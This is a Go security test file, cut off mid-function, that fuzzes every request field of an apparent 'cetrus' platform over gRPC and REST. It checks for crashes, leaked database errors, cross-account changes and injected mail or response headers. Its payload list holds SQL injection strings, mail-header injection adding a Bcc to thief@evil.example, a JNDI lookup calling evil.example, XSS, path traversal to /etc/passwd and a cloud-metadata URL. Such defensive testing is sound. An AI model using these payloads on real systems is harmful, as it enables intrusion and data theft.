package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"log/slog"
	"maps"
	"math/rand/v2"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"google.golang.org/genproto/googleapis/api/annotations"
	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/metadata"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/encoding/protojson"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/reflect/protoreflect"
	"google.golang.org/protobuf/reflect/protoregistry"
	"google.golang.org/protobuf/types/known/durationpb"
	"google.golang.org/protobuf/types/known/fieldmaskpb"
	"google.golang.org/protobuf/types/known/timestamppb"

	meteringv1 "github.com/cetrus/cetrus/proto/cetrus/metering/v1"
	"github.com/cetrus/cetrus/proto/contract"
	"github.com/cetrus/cetrus/services/platform/authn"
	"github.com/cetrus/cetrus/services/platform/mail/inbox"
	"github.com/cetrus/cetrus/services/platform/resource"
)

// payloads break out of what a careless program would put them into: SQL, headers of mails and
// answers, lines of logs, paths, formats, templates, JSON; or are what programs stumble over.
var payloads = []string{
	`'`, `"`, `\`, "`", `''`, `\'`, `';--`, `' OR '1'='1`, `' OR 1=1--`, `') OR ('a'='a`, `1; DROP TABLE login;--`, `'; DELETE FROM application;--`,
	`' UNION SELECT NULL,NULL--`, `x' || (SELECT version()) || '`, `$1`, `$$; SELECT 1; $$`, `%`, `_`, `%' ESCAPE '`, `{`, `{}`, `{a,"b}`, `NULL`, `E'\\000'`, `/* */`,
	`'; SET cetrus.account = '00000000-0000-0000-0000-000000000000';--`, `a"::regclass`, `login`, `pg_catalog.pg_class`,
	"\r\nX-Injected: yes", "\nBcc: thief@evil.example", "x\r\n\r\n<html>", "x\r\n.\r\nMAIL FROM:<thief@evil.example>", "=?utf-8?q?=0D=0AX-Injected:_yes?=",
	"thief@evil.example\r\nX-Injected: yes", "\"a\r\nX-Injected: yes\"@example.org", "ada@example.org>,<thief@evil.example", `"thief@evil.example, ada"@example.org`,
	"%0d%0aX-Injected:%20yes", "\u2028X-Injected: yes", "\u0085X-Injected: yes", "\vX-Injected: yes",
	"\x00", "a\x00b", "\x00' OR 1=1--", "\x1b[31m", "\x7f", "\ufeff", "\ufffd", "\U0010ffff", "\u202e\u200d\u0301", strings.Repeat("\u0301", 300), "ﬀ\u212a", "İ",
	"%s%n%d", "%!v(PANIC=x)", "{{.}}", "{{template \"x\"}}", "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "../../../../etc/passwd", "..%2f..%2f", "/", "//evil.example", "http://169.254.169.254/", "file:///etc/passwd", "javascript:alert(1)",
	`{"account_id":"0"}`, `[`, `]}`, `*`, `>`, `a.>`, `ev.*.>`, ` `, "\t", "-1", "0", "9999999999999999999999", "1e309", "NaN", "true", "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff",
	"(", "(a+)+$", "[[:alpha:]", "^", strings.Repeat("(", 200), strings.Repeat("a", 5000), "\xff", "\xc0\xaf", "\xed\xa0\x80", "a\xffb",
}

// fields of one string in a request: from the request down to it.
type fieldPath []protoreflect.FieldDescriptor

func (p fieldPath) String() string {
	var names []string
	for _, f := range p {
		names = append(names, string(f.Name()))
	}
	return strings.Join(names, ".")
}

// stringsOf are all strings and bytes that a caller can say in a message.
func stringsOf(message protoreflect.MessageDescriptor, above fieldPath) []fieldPath {
	var found []fieldPath
	if len(above) > 6 {
		return nil
	}
	for i := range message.Fields().Len() {
		field := message.Fields().Get(i)
		path := append(slices.Clone(above), field)
		switch {
		case field.Kind() == protoreflect.StringKind, field.Kind() == protoreflect.BytesKind:
			found = append(found, path)
		case field.Message() != nil && !slices.ContainsFunc(above, func(f protoreflect.FieldDescriptor) bool { return f.Message() == field.Message() }):
			found = append(found, stringsOf(field.Message(), path)...)
		}
	}
	return found
}

// shapes fills requests so that most of them pass the contract's own rules: what is tried is
// what stands behind those.
type shapes struct {
	// ids are of things that there are, by the field's name.
	ids map[string]string
}

func (s *shapes) text(field protoreflect.FieldDescriptor) string {
	name := strings.TrimSuffix(string(field.Name()), "s")
	switch {
	case s.ids[name] != "":
		return s.ids[name]
	case strings.HasSuffix(name, "_id"):
		return resource.NewID().String()
	case strings.Contains(name, "domain"):
		return "example.org"
	case name == "pattern":
		return "(?P<file>word)"
	case strings.Contains(name, "mail"):
		return "victim@example.org"
	case strings.Contains(name, "zone"):
		return "Europe/Berlin"
	case name == "issuer", strings.Contains(name, "url"):
		return "https://idp.example.org"
	case slices.Contains([]string{"etag", "page_token", "document_title", "minimum", "maximum", "min_position", "option"}, name):
		return ""
	case strings.HasSuffix(name, "_month"):
		return "2025-10"
	case name == "time_of_day":
		return "07:30"
	case name == "category":
		return "cad"
	case name == "manager":
		return "manager.example.org:10041"
	case name == "type_prefix":
		return "cetrus."
	case strings.Contains(name, "password"):
		return "long enough " + resource.NewID().String()
	case strings.Contains(name, "name"):
		return "Name " + resource.NewID().String()[:8]
	}
	return "word"
}

// fill says something in each field of a message, as far as it goes.
func (s *shapes) fill(m protoreflect.Message, depth int) {
	switch known := m.Interface().(type) {
	case *timestamppb.Timestamp:
		known.Seconds = 1_760_000_400
		return
	case *durationpb.Duration:
		known.Seconds = 60
		return
	case *meteringv1.ReportSchedule:
		known.Recurrence, known.TimeOfDay = meteringv1.ReportSchedule_RECURRENCE_DAILY, "07:30"
		known.Delivery = &meteringv1.ReportDelivery{RecipientLoginIds: []string{s.ids["owner_login_id"]}}
		return
	}
	fields := m.Descriptor().Fields()
	for i := range fields.Len() {
		field := fields.Get(i)
		behaviours, _ := proto.GetExtension(field.Options(), annotations.E_FieldBehavior).([]annotations.FieldBehavior)
		if depth > 4 || slices.Contains(behaviours, annotations.FieldBehavior_OUTPUT_ONLY) && !strings.HasSuffix(string(field.Name()), "_id") || field.Name() == "update_mask" || field.Name() == "expire_time" || field.IsMap() ||
			field.ContainingOneof() != nil && field.ContainingOneof().Fields().Get(0) != field || field.Message() != nil && field.Message() == m.Descriptor() {
			continue
		}
		value, ok := s.value(m, field, depth)
		switch {
		case !ok:
		case field.IsList():
			m.Mutable(field).List().Append(value)
		default:
			m.Set(field, value)
		}
	}
	for _, of := range []string{"", "compare_"} {
		if start, end := fields.ByName(protoreflect.Name(of+"start_time")), fields.ByName(protoreflect.Name(of+"end_time")); start != nil && end != nil {
			m.Set(end, protoreflect.ValueOfMessage(timestamppb.New(time.Unix(1_760_004_000, 0)).ProtoReflect()))
		}
	}
}

func (s *shapes) value(m protoreflect.Message, field protoreflect.FieldDescriptor, depth int) (protoreflect.Value, bool) {
	switch field.Kind() {
	case protoreflect.StringKind:
		text := s.text(field)
		return protoreflect.ValueOfString(text), text != ""
	case protoreflect.BytesKind:
		return protoreflect.ValueOfBytes(make([]byte, 32)), true
	case protoreflect.EnumKind:
		return protoreflect.ValueOfEnum(field.Enum().Values().Get(1).Number()), true
	case protoreflect.MessageKind:
		var inner protoreflect.Value
		if field.IsList() {
			inner = m.NewField(field).List().NewElement()
		} else {
			inner = m.NewField(field)
		}
		s.fill(inner.Message(), depth+1)
		return inner, true
	case protoreflect.Int32Kind:
		return protoreflect.ValueOfInt32(1), true
	}
	return protoreflect.Value{}, false
}

// say fills a request and puts a text into one of its fields. Where the request names what it
// changes, it names that field.
func (s *shapes) say(m protoreflect.Message, path fieldPath, text string) {
	s.fill(m, 0)
	if mask := m.Descriptor().Fields().ByName("update_mask"); mask != nil && len(path) > 1 && path[0].Message() != mask.Message() && !strings.HasSuffix(string(path[1].Name()), "_id") && path[1].Name() != "etag" {
		m.Set(mask, protoreflect.ValueOfMessage((&fieldmaskpb.FieldMask{Paths: []string{string(path[1].Name())}}).ProtoReflect()))
	}
	s.put(m, path, text)
}

// put sets the string at a path, making what leads to it.
func (s *shapes) put(m protoreflect.Message, path fieldPath, text string) {
	field := path[0]
	switch {
	case len(path) > 1 && field.IsMap():
		key, value := "key", protoreflect.ValueOfString("word")
		if path[1].Number() == 1 {
			key = text
		} else if field.MapValue().Message() == nil {
			value = protoreflect.ValueOfString(text)
		}
		if field.MapKey().Kind() != protoreflect.StringKind {
			return
		}
		if field.MapValue().Message() != nil {
			value = m.Mutable(field).Map().NewValue()
			if len(path) > 2 {
				s.put(value.Message(), path[2:], text)
			}
		}
		m.Mutable(field).Map().Set(protoreflect.ValueOfString(key).MapKey(), value)
	case len(path) > 1 && field.IsList():
		list := m.Mutable(field).List()
		if list.Len() == 0 {
			list.Append(list.NewElement())
		}
		s.put(list.Get(0).Message(), path[1:], text)
	case len(path) > 1:
		s.put(m.Mutable(field).Message(), path[1:], text)
	default:
		value := protoreflect.ValueOfString(text)
		if field.Kind() == protoreflect.BytesKind {
			value = protoreflect.ValueOfBytes([]byte(text))
		}
		if field.IsList() {
			list := m.Mutable(field).List()
			list.Truncate(0)
			list.Append(value)
			return
		}
		m.Set(field, value)
	}
}

// target is one string of one method.
type tried struct {
	full   string
	method protoreflect.MethodDescriptor
	path   fieldPath
}

// attacked is a platform that is tried, with an account that must not notice.
type attacked struct {
	*instance
	shapes
	conn    *grpc.ClientConn
	token   string
	mails   *inbox.Inbox
	other   contract.ID
	before  map[string]string
	targets []tried

	mu       sync.Mutex
	failures []string
	said     map[string]map[codes.Code]int
}

// complaints takes what the platform logs as its own fault.
type complaints struct {
	slog.Handler
	mu   sync.Mutex
	said []string
}

func (c *complaints) Enabled(_ context.Context, level slog.Level) bool {
	return level >= slog.LevelError
}

func (c *complaints) Handle(_ context.Context, r slog.Record) error {
	var line strings.Builder
	line.WriteString(r.Message)
	r.Attrs(func(a slog.Attr) bool { fmt.Fprintf(&line, " %s=%v", a.Key, a.Value); return true })
	c.mu.Lock()
	defer c.mu.Unlock()
	c.said = append(c.said, line.String())
	return nil
}
func (c *complaints) WithAttrs([]slog.Attr) slog.Handler { return c }
func (c *complaints) WithGroup(string) slog.Handler      { return c }

// startAttacked starts a platform with two accounts, and signs in as the administrator of the
// operator's, who may say most. When the test ends, it looks at what must not have happened.
func startAttacked(t testing.TB) *attacked {
	t.Helper()
	a := &attacked{said: map[string]map[codes.Code]int{}}
	var err error
	if a.mails, err = inbox.New(t.Context(), inbox.Config{Keep: 100_000}); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.WithoutCancel(t.Context()))
	ended := make(chan error, 1)
	go func() { ended <- a.mails.Run(ctx) }()
	t.Cleanup(func() {
		cancel()
		if err := <-ended; err != nil {
			t.Error(err)
		}
	})
	faults := &complaints{Handler: slog.DiscardHandler}
	dir := testDir(t)
	a.instance = startLogged(t, slog.New(faults), "all", dir, "--smtp-url", a.mails.SMTPURL(), "--mail-from", "Cetrus <cetrus@example.com>")
	addresses, err := addressesOf(dir, "all")
	if err != nil {
		t.Fatal(err)
	}
	if a.conn, err = grpc.NewClient(addresses.GRPC, grpc.WithTransportCredentials(insecure.NewCredentials())); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = a.conn.Close() })
	a.signInAsAdministrator()
	a.furnish(addresses.PostgresURL)
	for full, method := range methodsOf() {
		for _, path := range stringsOf(method.Input(), nil) {
			a.targets = append(a.targets, tried{full, method, path})
		}
	}
	slices.SortFunc(a.targets, func(x, y tried) int { return strings.Compare(x.full+x.path.String(), y.full+y.path.String()) })
	t.Cleanup(func() {
		a.stillWorks()
		a.mailsAreWhole()
		if diff := a.changed(a.before, a.rowsOf(addresses.PostgresURL, a.other)); len(diff) > 0 {
			t.Errorf("another account's rows changed in %v", diff)
		}
		faults.mu.Lock()
		defer faults.mu.Unlock()
		for _, line := range faults.said[:min(len(faults.said), 20)] {
			t.Errorf("the platform blames itself: %s", line)
		}
		a.mu.Lock()
		defer a.mu.Unlock()
		for _, failure := range a.failures[:min(len(a.failures), 40)] {
			t.Error(failure)
		}
	})
	return a
}

func (a *attacked) signInAsAdministrator() {
	a.t.Helper()
	first, err := os.ReadFile(filepath.Join(a.dir, authn.FirstPasswordFile))
	if err != nil {
		a.t.Fatal(err)
	}
	body, err := json.Marshal(map[string]string{"account_name": "operator", "login_name": "admin", "password": strings.TrimSpace(string(first)), "new_password": "correct horse battery staple"})
	if err != nil {
		a.t.Fatal(err)
	}
	code, answer := a.do("POST", "/v1/sessions:signIn", string(body), "")
	tokens, _ := answer["tokens"].(map[string]any)
	if a.token, _ = tokens["access_token"].(string); code != 200 || a.token == "" {
		a.t.Fatalf("signing in: %d %v", code, answer["outcome"])
	}
}

// furnish makes something of each kind in the own account to aim at, and another account that
// has to stay as it is.
func (a *attacked) furnish(database string) {
	a.t.Helper()
	a.order("admin", "create-account", "Acme Ltd", "--administrator", "boss", "--mail-address", "boss@example.org")
	theirs := strings.TrimSpace(a.order("admin", "create-key", "boss", "--account", "Acme Ltd"))
	account := a.eventually(200, "GET", "/v1/account", "", theirs)
	var err error
	if a.other, err = contract.ParseID(account["account_id"].(string)); err != nil {
		a.t.Fatal(err)
	}
	a.eventually(200, "POST", "/v1/groups", `{"display_name":"Drafting"}`, theirs)
	last := a.eventually(200, "POST", "/v1/applications", `{"display_name":"Editor","rules":[{"executable":"xed"}]}`, theirs)["application_id"].(string)

	made := func(path, body, id string) string {
		answer := a.eventually(200, "POST", path, body, a.key)
		text, _ := answer[id].(string)
		return text
	}
	a.ids = map[string]string{
		"login_id":       made("/v1/logins", `{"name":"victim","mail_address":"victim@example.org","privileges":["PRIVILEGE_APPLICATION_USER","PRIVILEGE_REPORT"]}`, "login_id"),
		"group_id":       made("/v1/groups", `{"display_name":"Writing"}`, "group_id"),
		"application_id": made("/v1/applications", `{"display_name":"Viewer","rules":[{"executable":"xview"}]}`, "application_id"),
	}
	a.ids["denied_application_id"] = a.ids["application_id"]
	saved := a.eventually(200, "POST", "/v1/savedReports", `{"display_name":"Use","report":{"usage":{}},"period":{"kind":"KIND_LAST_MONTH"}}`, a.token)
	a.ids["saved_report_id"], a.ids["owner_login_id"], a.ids["recipient_login_id"] = saved["saved_report_id"].(string), saved["owner_login_id"].(string), saved["owner_login_id"].(string)

	file := a.eventually(200, "POST", "/v1/reportFiles", `{"report":{"instances":{"open_only":true}}}`, a.token)
	a.ids["report_file_id"] = file["report_file_id"].(string)

	// What follows from an account's making has happened once its audit log has the last of it,
	// and its people were written to.
	deadline, cancel := context.WithTimeout(a.t.Context(), time.Minute)
	defer cancel()
	if _, err := a.mails.Wait(deadline, func(m inbox.Mail) bool { return slices.Contains(m.Recipients, "boss@example.org") }); err != nil {
		a.t.Fatal(err)
	}
	for seen := ""; !strings.Contains(seen, last); {
		_, entries := a.do("GET", "/v1/auditEntries", "", theirs)
		text, err := json.Marshal(entries)
		if err != nil || deadline.Err() != nil {
			a.t.Fatal(err, deadline.Err(), "the audit log lacks the last change")
		}
		seen = string(text)
	}
	for a.before = nil; a.before == nil || a.before["mails"] == "0"; {
		if a.before = a.rowsOf(database, a.other); deadline.Err() != nil {
			a.t.Fatal("it was not noted that a mail was sent")
		}
	}
}

// rowsOf tells what stands in each table of an account, whatever walls there are.
func (a *attacked) rowsOf(database string, account contract.ID) map[string]string {
	a.t.Helper()
	ctx := context.WithoutCancel(a.t.Context())
	admin, err := pgx.Connect(ctx, database)
	if err != nil {
		a.t.Fatal(err)
	}
	defer admin.Close(ctx)
	rows, err := admin.Query(ctx, `SELECT quote_ident(t.table_schema) || '.' || quote_ident(t.table_name)
		FROM information_schema.columns c JOIN information_schema.tables t USING (table_schema, table_name)
		WHERE c.column_name = 'account_id' AND t.table_type = 'BASE TABLE'`)
	if err != nil {
		a.t.Fatal(err)
	}
	tables, err := pgx.CollectRows(rows, pgx.RowTo[string])
	if err != nil {
		a.t.Fatal(err)
	}
	found := map[string]string{}
	for _, table := range tables {
		var sum string
		err := admin.QueryRow(ctx, "SELECT count(*) || ' ' || md5(coalesce(string_agg(r::text, '|' ORDER BY r::text), '')) FROM "+table+" AS r WHERE account_id = $1", [16]byte(account)).Scan(&sum)
		if err != nil {
			a.t.Fatal(table, err)
		}
		if strings.HasSuffix(table, ".key_use") {
			continue // its key was used when the account was furnished, which is told a while later
		}
		found[table] = sum
		if strings.HasSuffix(table, ".mail") {
			found["mails"], _, _ = strings.Cut(sum, " ")
		}
	}
	return found
}

func (a *attacked) changed(before, after map[string]string) []string {
	var tables []string
	for table := range maps.Keys(before) {
		if before[table] != after[table] {
			tables = append(tables, table+": "+before[table]+", "+after[table])
		}
	}
	slices.Sort(tables)
	return tables
}

// stillWorks sees to it that what was said stopped nothing: neither the process, nor who builds
// tables from the log.
func (a *attacked) stillWorks() {
	select {
	case err := <-a.done:
		a.done <- err
		a.t.Errorf("the platform has stopped: %v", err)
		return
	default:
	}
	ask := func(verb, path, body string) (int, string) {
		req, err := http.NewRequestWithContext(context.Background(), verb, a.rest+path, strings.NewReader(body))
		if err != nil {
			return 0, err.Error()
		}
		req.Header.Set("X-Api-Key", a.key)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			return 0, err.Error()
		}
		defer resp.Body.Close()
		text, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(text)
	}
	for _, made := range []struct{ path, body string }{
		{"/v1/groups", `{"display_name":"Afterwards"}`}, {"/v1/applications", `{"display_name":"Afterwards","rules":[{"executable":"afterwards"}]}`},
	} {
		code, said := ask("POST", made.path, made.body)
		for deadline := time.Now().Add(time.Minute); code != http.StatusOK || !strings.Contains(said, "Afterwards"); code, said = ask("GET", made.path+"?page_size=1000", "") {
			if time.Now().After(deadline) {
				a.t.Errorf("%s afterwards: %d %.200s", made.path, code, said)
				break
			}
		}
	}
}

// mailsAreWhole looks at what went out: nobody was written to who was not meant, and no word
// became a line of a header.
func (a *attacked) mailsAreWhole() {
	known := []string{"Auto-Submitted", "Content-Transfer-Encoding", "Content-Type", "Date", "From", "Message-Id", "Mime-Version", "Subject", "To", "User-Agent", "X-Auto-Response-Suppress", "X-Mailer"}
	for _, m := range a.mails.Mails() {
		for name := range m.Header {
			if !slices.Contains(known, name) {
				a.t.Errorf("a mail has the header %s: %q", name, m.Raw)
			}
		}
		if m.Broken != nil || len(m.Recipients) != 1 || strings.Contains(m.Recipients[0], "evil.example") && !strings.HasSuffix(m.Recipients[0], "@example.org") {
			a.t.Errorf("a mail to %q: %v", m.Recipients, m.Broken)
		}
	}
}

// blunt sends and takes bytes as they are.
type blunt struct{}

func (blunt) Name() string { return "proto" }
func (blunt) Marshal(v any) ([]byte, error) {
	return v.([]byte), nil
}

func (blunt) Unmarshal(data []byte, v any) error {
	*v.(*[]byte) = data
	return nil
}

// request is the bytes of a request with a text in one field: also one that is no UTF-8,
// which no honest client could send.
func (a *attacked) request(t tried, text string) ([]byte, error) {
	kind, err := protoregistry.GlobalTypes.FindMessageByName(t.method.Input().FullName())
	if err != nil {
		return nil, err
	}
	m := kind.New()
	if len(t.path) == 0 {
		a.fill(m, 0)
		return proto.Marshal(m.Interface())
	}
	mark := strings.Repeat("~", len(text)) // of the same length, so that the bytes stay whole
	a.say(m, t.path, mark)
	wire, err := proto.Marshal(m.Interface())
	return bytes.Replace(wire, []byte(mark), []byte(text), 1), err
}

// surfaces is what only PostgreSQL, its driver or Go itself say.
var surfaces = regexp.MustCompile(`SQLSTATE|ERROR:|syntax error at|pq:|pgx|runtime error|goroutine|invalid byte sequence|relation "`)

func (a *attacked) failed(format string, args ...any) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.failures = append(a.failures, fmt.Sprintf(format, args...))
}

// callGRPC tries one text by gRPC. Each call comes from an address of its own, so that none has
// to wait for the failures of others.
func (a *attacked) callGRPC(ctx context.Context, t tried, text, from string) {
	wire, err := a.request(t, text)
	if err != nil {
		a.failed("%s %s: %v", t.full, t.path, err)
		return
	}
	stream := t.method.IsStreamingServer()
	if stream {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, 2*time.Second)
		defer cancel()
	}
	ctx = metadata.AppendToOutgoingContext(ctx, "authorization", "Bearer "+a.token, "x-forwarded-for", from)
	var answer []byte
	if stream {
		var s grpc.ClientStream
		if s, err = a.conn.NewStream(ctx, &grpc.StreamDesc{ServerStreams: true}, "/"+t.full, grpc.ForceCodec(blunt{})); err == nil {
			if err = errors.Join(s.SendMsg(wire), s.CloseSend()); err == nil {
				err = s.RecvMsg(&answer) // the first is enough: the live stream has no last
			}
		}
		if errors.Is(err, io.EOF) {
			err = nil
		}
	} else {
		err = a.conn.Invoke(ctx, "/"+t.full, wire, &answer, grpc.ForceCodec(blunt{}))
	}
	a.judge(t, "gRPC", text, status.Code(err), fmt.Sprint(status.Convert(err).Message(), status.Convert(err).Details()))
}

func (a *attacked) judge(t tried, by, text string, code codes.Code, said string) {
	a.mu.Lock()
	if a.said[t.full] == nil {
		a.said[t.full] = map[codes.Code]int{}
	}
	a.said[t.full][code]++
	a.mu.Unlock()
	switch code {
	case codes.Unavailable: // it is slow: not too often, as all calls together are judged
	case codes.Internal, codes.Unknown, codes.DataLoss, codes.Unauthenticated, codes.Unimplemented:
		if code == codes.Unauthenticated && slices.Contains(ownProof, t.full) {
			break
		}
		// A text that is no UTF-8 ends at the codec, which says so by this code.
		if by == "gRPC" && code == codes.Internal && strings.Contains(said, "invalid UTF-8") {
			return
		}
		a.failed("%s by %s, %s = %.80q: %s %s", t.full, by, t.path, text, code, said)
		return
	}
	if surfaces.MatchString(strings.ReplaceAll(said, text, "")) {
		a.failed("%s by %s, %s = %.80q: tells of its insides: %s", t.full, by, t.path, text, said)
	}
}

// ownProof are methods that judge a proof of their own, and refuse it by the same code.
var ownProof = []string{
	"cetrus.identity.v1.SignInService/SignIn", "cetrus.identity.v1.SignInService/RefreshSession", "cetrus.identity.v1.SignInService/SignOut",
	"cetrus.identity.v1.SignInService/CompletePasswordReset", "cetrus.identity.v1.SingleSignOnService/CompleteSingleSignOn", "cetrus.identity.v1.SingleSignOnService/StartSingleSignOn",
	"cetrus.identity.v1.ManagerService/EnrollManager",
}

// statuses are the codes behind REST's.
var statuses = map[int]codes.Code{
	400: codes.InvalidArgument, 401: codes.Unauthenticated, 403: codes.PermissionDenied, 404: codes.NotFound, 409: codes.Aborted, 412: codes.FailedPrecondition,
	429: codes.ResourceExhausted, 500: codes.Internal, 501: codes.Unimplemented, 502: codes.Unavailable, 503: codes.Unavailable, 504: codes.DeadlineExceeded,
}

// callREST tries the same text as a browser or a script would bring it: in the path, the query,
// or the body.
func (a *attacked) callREST(ctx context.Context, t tried, text, from string) {
	const mark = "PUT-IT-HERE"
	rule, _ := proto.GetExtension(t.method.Options(), annotations.E_Http).(*annotations.HttpRule)
	kind, err := protoregistry.GlobalTypes.FindMessageByName(t.method.Input().FullName())
	if rule == nil || err != nil || t.path[len(t.path)-1].Kind() == protoreflect.BytesKind {
		return
	}
	verb, template := http.MethodGet, rule.GetGet()
	for v, path := range map[string]string{http.MethodPost: rule.GetPost(), http.MethodPatch: rule.GetPatch(), http.MethodPut: rule.GetPut(), http.MethodDelete: rule.GetDelete()} {
		if path != "" {
			verb, template = v, path
		}
	}
	m := kind.New()
	a.say(m, t.path, mark)
	query := url.Values{}
	path := pathVariable.ReplaceAllStringFunc(template, func(variable string) string {
		return url.PathEscape(strings.Join(scalar(m, strings.Trim(variable, "{}")), ""))
	})
	body := ""
	written := protojson.MarshalOptions{UseProtoNames: true}
	switch name := rule.GetBody(); name {
	case "":
		parameters(m, "", query)
	case "*":
		text, _ := written.Marshal(m.Interface())
		body = string(text)
	default:
		text, _ := written.Marshal(m.Get(m.Descriptor().Fields().ByName(protoreflect.Name(name))).Message().Interface())
		body = string(text)
		rest := proto.Clone(m.Interface()).ProtoReflect()
		rest.Clear(m.Descriptor().Fields().ByName(protoreflect.Name(name)))
		parameters(rest, "", query)
	}
	quoted := text
	if encoded, err := json.Marshal(text); err == nil && strings.ToValidUTF8(text, "") == text {
		quoted = strings.Trim(string(encoded), `"`)
	}
	for variable := range query {
		if strings.Contains(template, "{"+variable+"}") {
			query.Del(variable)
		}
	}
	address := a.rest + strings.ReplaceAll(path, mark, url.PathEscape(text))
	if len(query) > 0 {
		address += "?" + strings.ReplaceAll(query.Encode(), mark, url.QueryEscape(text))
	}
	if strings.HasSuffix(path, ":live") {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, 500*time.Millisecond)
		defer cancel()
	}
	req, err := http.NewRequestWithContext(ctx, verb, address, strings.NewReader(strings.ReplaceAll(body, mark, quoted)))
	if err != nil {
		a.failed("%s %s: %v", t.full, t.path, err)
		return
	}
	req.Header.Set("Authorization", "Bearer "+a.token)
	req.Header.Set("X-Forwarded-For", from)
	resp, err := http.DefaultTransport.RoundTrip(req)
	if errors.Is(err, context.DeadlineExceeded) && strings.HasSuffix(path, ":live") {
		return
	}
	if err != nil {
		a.failed("%s %s = %.80q: %v", t.full, t.path, text, err)
		return
	}
	defer resp.Body.Close()
	said, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	if err != nil && !errors.Is(err, context.DeadlineExceeded) {
		a.failed("%s %s = %.80q: %v", t.full, t.path, text, err)
	}
	if resp.Header.Get("X-Injected") != "" || strings.Contains(resp.Header.Get("Location"), "evil.example") {
		a.failed("%s %s = %.80q: an answer's headers hold it: %v", t.full, t.path, text, resp.Header)
	}
	code, known := statuses[resp.StatusCode]
	if resp.StatusCode >= 400 && !known {
		code = codes.Unknown
	}
	if resp.StatusCode < 400 {
		said = nil // it may give back what was said
	}
	a.judge(t, "REST", text, code, string(said))
}

// scalar is what a field says, by its path with dots.
func scalar(m protoreflect.Message, path string) []string {
	name, rest, deeper := strings.Cut(path, ".")
	field := m.Descriptor().Fields().ByName(protoreflect.Name(name))
	switch {
	case field == nil:
		return nil
	case deeper:
		return scalar(m.Get(field).Message(), rest)
	}
	return []string{fmt.Sprint(m.Get(field).Interface())}
}

// parameters writes a message as a query.
func parameters(m protoreflect.Message, above string, into url.Values) {
	m.Range(func(field protoreflect.FieldDescriptor, value protoreflect.Value) bool {
		name := above + string(field.Name())
		one := func(value protoreflect.Value) {
			switch {
			case field.Enum() != nil:
				into.Add(name, string(field.Enum().Values().ByNumber(value.Enum()).Name()))
			case field.Message() == nil:
				into.Add(name, fmt.Sprint(value.Interface()))
			case field.Name() == "update_mask":
				mask, _ := value.Message().Interface().(*fieldmaskpb.FieldMask)
				into.Add(name, strings.Join(mask.GetPaths(), ","))
			case strings.HasPrefix(string(field.Message().FullName()), "google.protobuf."):
				text, err := protojson.Marshal(value.Message().Interface())
				if err == nil {
					into.Add(name, strings.Trim(string(text), `"`))
				}
			default:
				parameters(value.Message(), name+".", into)
			}
		}
		switch {
		case field.IsMap():
		case field.IsList():
			for i := range value.List().Len() {
				one(value.List().Get(i))
			}
		default:
			one(value)
		}
		return true
	})
}

// destroys tells whether a method takes away what the others need to aim at.
func (t tried) destroys() bool {
	for _, verb := range []string{"Delete", "Revoke", "Remove", "Forget", "End"} {
		if strings.HasPrefix(string(t.method.Name()), verb) {
			return true
		}
	}
	return false
}

// TestInjection says what breaks out of careless programs in every string of every request, by
// gRPC and REST, as an administrator: nothing is ever the platform's own fault, tells of its
// insides, reaches another account, or gives a mail or an answer a header.
func TestInjection(t *testing.T) {
	a := startAttacked(t)
	// At first with nothing wrong: what the contract's rules refuse would prove nothing.
	var refused []string
	for full, method := range methodsOf() {
		whole := tried{full: full, method: method}
		if whole.destroys() {
			continue
		}
		a.callGRPC(t.Context(), whole, "", "198.51.100.1")
		if a.said[full][codes.InvalidArgument] > 0 {
			refused = append(refused, full)
		}
	}
	if len(refused) > len(a.said)/8 {
		slices.Sort(refused)
		t.Errorf("of %d methods these take nothing that this test says: %v", len(a.said), refused)
	}

	rnd := rand.New(rand.NewPCG(20261129, 4))
	others := rnd.Perm(len(payloads))
	var plain, destroying []func()
	turn := 0
	for n, target := range a.targets {
		// Each string sees what breaks SQL, both ways, what breaks headers, and two of the others.
		calls := []func(context.Context, tried, string, string){a.callGRPC, a.callREST}
		for i, text := range []string{
			`'"` + "`" + `\;--`, `'"` + "`" + `\;--`, "x\r\nX-Injected: yes", payloads[others[2*n%len(others)]], payloads[others[(2*n+1)%len(others)]],
		} {
			turn++
			call, from := calls[(i+n*(i/2))%2], fmt.Sprintf("198.18.%d.%d", turn>>8&255, turn&255)
			work := func() { call(t.Context(), target, text, from) }
			if target.destroys() {
				destroying = append(destroying, work)
			} else {
				plain = append(plain, work)
			}
		}
	}
	for _, list := range [][]func(){plain, destroying} {
		var workers sync.WaitGroup
		work := make(chan func())
		for range 16 {
			workers.Go(func() {
				for one := range work {
					one()
				}
			})
		}
		for _, one := range list {
			work <- one
		}
		close(work)
		workers.Wait()
	}
	unavailable := 0
	for _, codesOf := range a.said {
		unavailable += codesOf[codes.Unavailable]
	}
	if unavailable > len(plain)/10 {
		t.Errorf("%d of %d calls could not be answered", unavailable, len(plain))
	}
	t.Logf("%d strings of %d methods, %d calls, %d mails", len(a.targets), len(a.said), len(plain)+len(destroying), len(a.mails.Mails()))
}

// FuzzInjection does the same with what a fuzzer thinks of: go test ./cmd/cetrus -fuzz Injection.
func FuzzInjection(f *testing.F) {
	if flag.Lookup("test.fuzz").Value.String() == "" {
		f.Skip("TestInjection says what the seeds would, and a platform takes seconds to start")
	}
	a := startAttacked(f)
	for i, text := range payloads[:6] {
		f.Add(uint(i*31), i%2 == 0, text)
	}
	f.Fuzz(func(t *testing.T, number uint, rest bool, text string) {
		target := a.targets[number%uint(len(a.targets))]
		if rest {
			a.callREST(t.Context(), target, text, fmt.Sprintf("198.19.%d.%d", number>>8&255, number&255))
		} else {
